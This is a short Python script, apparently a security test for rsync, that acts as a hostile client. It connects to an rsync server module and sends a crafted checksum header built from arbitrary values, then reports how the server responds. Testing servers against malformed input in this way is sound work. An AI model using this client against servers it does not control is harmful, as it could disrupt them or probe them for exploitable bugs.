#!/usr/bin/env python3
# SPDX-License-Identifier: ISC
"""A hostile rsync client: handshakes at protocol 32 with a short digest
(--checksum-choice=xxh64, 8 bytes), receives the file list, then requests
the first file with a crafted sum head.  Prints the server's text messages
and whether the connection ended.  Bounded by timeouts throughout.

  evilsums.py PORT MODULE FILE COUNT BLENGTH S2LENGTH REMAINDER
"""
import struct, sys, time

from evilclient import Client

port, module, fname = int(sys.argv[1]), sys.argv[2], sys.argv[3]
count, blength, s2len, rem = (int(x) for x in sys.argv[4:8])
c = Client(port, module, ["--server", "--sender", "-e.LsfxCIvu", "--checksum-choice=xxh64",
                          ".", module + "/" + fname])
# Wait for the file list (one MSG_DATA frame at least), then attack.
deadline = time.time() + 10
while time.time() < deadline:
    code, payload = c.frame()
    if code == 0 and payload:
        break
req = b"\x01" + struct.pack("<H", 0x8000) + struct.pack("<iiii", count, blength, s2len, rem)
req += b"\x11" * 64  # a few bytes of "sums"; the server must not trust them
c.send(req)
c.finish(deadline)
